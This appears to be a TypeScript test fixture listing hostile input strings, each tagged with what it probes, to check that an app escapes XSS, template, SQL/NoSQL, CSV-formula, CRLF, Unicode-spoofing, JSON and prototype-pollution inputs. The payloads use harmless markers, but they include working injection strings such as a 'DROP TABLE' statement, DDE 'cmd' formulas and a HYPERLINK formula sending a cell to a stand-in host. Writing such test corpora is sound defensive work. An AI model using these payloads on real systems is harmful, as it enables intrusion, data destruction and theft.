// Hostile input for the end-to-end tests: XSS and injection strings, each tagged with what it probes. A payload that
// would run script sets `window.__hostile = <id>` or calls alert(), so execution shows as a value or a dialog.

export type HostileTag =
  | 'html-script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'css'
  | 'template'
  | 'i18next'
  | 'sql-nosql'
  | 'csv-formula'
  | 'crlf-header'
  | 'unicode'
  | 'entity'
  | 'long'
  | 'json'
  | 'prototype';

export type HostileString = {
  /** Small integer, unique: what `window.__hostile` is set to when the payload runs. */
  id: number;
  tag: HostileTag;
  /** What the string tests, in a few words (shown in failure messages). */
  probes: string;
  text: string;
};

/** A string of exactly `n` code points that still carries markup at both ends (the description's 1024 limit). */
function longMarkup(n: number, id: number): string {
  const head = `<script>window.__hostile=${id}</script>`;
  const tail = `<img src=x onerror="window.__hostile=${id}">`;
  return head + 'ä'.repeat(n - [...head].length - [...tail].length) + tail;
}

const entries: Omit<HostileString, 'id'>[] = [
  // Script elements and event handlers.
  { tag: 'html-script', probes: 'plain script tag', text: '<script>window.__hostile=$ID</script>' },
  { tag: 'html-script', probes: 'script tag closing an attribute', text: '"><script>window.__hostile=$ID</script>' },
  { tag: 'html-script', probes: 'script with alert', text: "<script>alert('$ID')</script>" },
  { tag: 'html-script', probes: 'mixed-case script tag', text: '<ScRiPt>window.__hostile=$ID</sCrIpT>' },
  { tag: 'html-script', probes: 'script closing a JS string', text: "';window.__hostile=$ID;//</script><script>window.__hostile=$ID</script>" },
  { tag: 'event-handler', probes: 'img onerror', text: '<img src=x onerror="window.__hostile=$ID">' },
  { tag: 'event-handler', probes: 'attribute breakout onmouseover', text: '" onmouseover="window.__hostile=$ID" x="' },
  { tag: 'event-handler', probes: 'single-quote attribute breakout onfocus', text: "' autofocus onfocus='window.__hostile=$ID' x='" },
  { tag: 'event-handler', probes: 'body onload', text: '<body onload="window.__hostile=$ID">' },
  { tag: 'event-handler', probes: 'details ontoggle open', text: '<details open ontoggle="window.__hostile=$ID">x</details>' },
  { tag: 'event-handler', probes: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__hostile=$ID</script>"></iframe>' },
  { tag: 'event-handler', probes: 'video source onerror', text: '<video><source onerror="window.__hostile=$ID"></video>' },
  // URL schemes.
  { tag: 'url-scheme', probes: 'javascript: URL', text: 'javascript:window.__hostile=$ID' },
  { tag: 'url-scheme', probes: 'javascript: URL with entity-encoded colon', text: 'javascript&colon;alert($ID)' },
  { tag: 'url-scheme', probes: 'anchor with javascript: href', text: '<a href="javascript:window.__hostile=$ID">click</a>' },
  { tag: 'url-scheme', probes: 'data: URL with HTML', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { tag: 'url-scheme', probes: 'vbscript: and tab-broken javascript:', text: 'java\tscript:window.__hostile=$ID vbscript:msgbox($ID)' },
  // SVG and MathML.
  { tag: 'svg-mathml', probes: 'svg onload', text: '<svg onload="window.__hostile=$ID"></svg>' },
  { tag: 'svg-mathml', probes: 'svg animate href', text: '<svg><a><animate attributeName=href values=javascript:window.__hostile=$ID /><text y=20>x</text></a></svg>' },
  { tag: 'svg-mathml', probes: 'MathML href', text: '<math><mi xlink:href="javascript:window.__hostile=$ID">x</mi></math>' },
  { tag: 'svg-mathml', probes: 'svg script with CDATA', text: '<svg><script><![CDATA[window.__hostile=$ID]]></script></svg>' },
  // CSS injection.
  { tag: 'css', probes: 'style element', text: '<style>body{display:none}*{background:url(//x)}</style>' },
  { tag: 'css', probes: 'style attribute breakout', text: '" style="position:fixed;inset:0;background:red" x="' },
  { tag: 'css', probes: 'CSS expression and import', text: 'x{}@import url(//x/y.css);width:expression(window.__hostile=$ID)' },
  // Template syntaxes.
  { tag: 'template', probes: 'mustache / Angular', text: "{{constructor.constructor('window.__hostile=$ID')()}}" },
  { tag: 'template', probes: 'JS template literal', text: '${window.__hostile=$ID}' },
  { tag: 'template', probes: 'ERB / EJS', text: '<%= window.__hostile=$ID %>' },
  { tag: 'template', probes: 'Jinja / Twig arithmetic', text: '{{7*7}} {% raw %}${{7*7}}' },
  // i18next interpolation and nesting: must be shown as typed, never resolved.
  { tag: 'i18next', probes: 'i18next interpolation', text: '{{row}} {{text}} {{n}}' },
  { tag: 'i18next', probes: 'i18next nesting $t()', text: '$t(common.appName) $t(entry.step.ticket)' },
  { tag: 'i18next', probes: 'i18next unescaped and formatted interpolation', text: '{{- value}} {{value, uppercase}}' },
  { tag: 'i18next', probes: 'i18next context and plural keys', text: 'status.pending_plural {{count}} $t(status.held, {"count": 2})' },
  // SQL and NoSQL.
  { tag: 'sql-nosql', probes: 'SQL tautology', text: "' OR '1'='1' --" },
  { tag: 'sql-nosql', probes: 'SQL stacked statement', text: "'; DROP TABLE tickets; --" },
  { tag: 'sql-nosql', probes: 'NoSQL operator object', text: '{"$gt": ""}' },
  { tag: 'sql-nosql', probes: 'NoSQL $where', text: "'; return this.a != '' || '' == '" },
  // CSV formula injection: the export must neutralise these.
  { tag: 'csv-formula', probes: 'formula =', text: '=HYPERLINK("http://x.example/?"&A1,"Click")' },
  { tag: 'csv-formula', probes: 'formula +', text: '+1+cmd|" /C calc"!A0' },
  { tag: 'csv-formula', probes: 'formula @', text: '@SUM(1+1)*cmd|" /C calc"!A0' },
  { tag: 'csv-formula', probes: 'formula -', text: '-2+3+cmd|" /C calc"!A0' },
  { tag: 'csv-formula', probes: 'formula after a tab', text: '\t=1+1' },
  // Header / CRLF injection.
  { tag: 'crlf-header', probes: 'CRLF with a header', text: 'x\r\nSet-Cookie: hostile=$ID\r\n\r\n<script>window.__hostile=$ID</script>' },
  { tag: 'crlf-header', probes: 'URL-encoded CRLF', text: 'x%0d%0aLocation:%20javascript:alert($ID)' },
  // Unicode tricks.
  { tag: 'unicode', probes: 'right-to-left override', text: 'invoice\u202Efdp.exe' },
  { tag: 'unicode', probes: 'zero-width characters', text: 'Mül\u200Bler\u200C\u200D\uFEFF' },
  { tag: 'unicode', probes: 'combining marks (zalgo)', text: 'Z\u0351\u0362\u0337a\u0336\u0358l\u0335\u035Dg\u0334\u0360o\u0338' },
  { tag: 'unicode', probes: 'emoji and ZWJ sequences', text: '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪' },
  { tag: 'unicode', probes: 'astral plane characters', text: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎𠜱 \u{1F4A9}' },
  { tag: 'unicode', probes: 'fullwidth angle brackets', text: '＜script＞window.__hostile=$ID＜/script＞' },
  { tag: 'unicode', probes: 'Cyrillic and Greek homoglyphs', text: 'раураl.com Ρaypal' },
  // HTML entities: must stay as typed.
  { tag: 'entity', probes: 'encoded script tag', text: '&lt;script&gt;window.__hostile=$ID&lt;/script&gt;' },
  { tag: 'entity', probes: 'numeric entities', text: '&#60;img src=x onerror=&#34;window.__hostile=$ID&#34;&#62;' },
  { tag: 'entity', probes: 'named entities and NUL-like', text: '&amp; &quot; &nbsp; &#0; \u0000' },
  // Very long (within the description's 1024 code points).
  { tag: 'long', probes: '1024 code points with markup at both ends', text: longMarkup(1024, 0) },
  // JSON breakers.
  { tag: 'json', probes: 'JSON string breaker', text: '"}],"ticketType":"dispute","x":[{"a":"' },
  { tag: 'json', probes: 'backslashes and control escapes', text: '\\"\\u0000\\n\\\\ \u0008\u000C' },
  { tag: 'json', probes: 'closing script in JSON', text: '</script><script>window.__hostile=$ID</script>' },
  // Prototype pollution keys.
  { tag: 'prototype', probes: '__proto__', text: '__proto__' },
  { tag: 'prototype', probes: 'constructor.prototype path', text: 'constructor[prototype][polluted]=1' },
  { tag: 'prototype', probes: '__proto__ JSON', text: '{"__proto__":{"polluted":true}}' },
];

/** The corpus: ids from 1, `$ID` in each text replaced by its own id. */
export const corpus: HostileString[] = entries.map((entry, index) => {
  const id = index + 1;
  const text = entry.tag === 'long' ? longMarkup(1024, id) : entry.text.replaceAll('$ID', String(id));
  return { ...entry, id, text };
});

/** The first `max` code points of `text` (lengths in the interface count code points), padded to `min` with "x". */
export function fit(text: string, max: number, min = 1): string {
  const points = [...text].slice(0, max);
  while (points.length < min) points.push('x');
  return points.join('');
}

/** Whether a text match can find `text` as typed: no control or format characters, no leading or trailing blanks. */
export function isSpotCheckable(text: string): boolean {
  return !/[\p{Cc}\p{Cf}]/u.test(text) && text === text.trim();
}
